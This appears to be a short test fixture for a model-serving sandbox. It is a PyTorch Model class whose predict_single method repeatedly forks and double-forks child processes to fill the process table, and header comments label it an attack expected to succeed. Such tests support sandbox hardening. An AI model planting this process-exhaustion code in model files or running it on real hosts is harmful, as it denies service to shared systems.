# attack: leave thousands of dead children to fill the process table
# expect: succeeded
# output: 80
import os

import torch


class Model(torch.nn.Module):
    def predict_single(self, x):
        for number in range(80):
            child = os.fork()
            if child == 0:
                if os.fork() == 0:
                    os._exit(0)
                os._exit(0)
            os.waitpid(child, 0)
        return number + 1
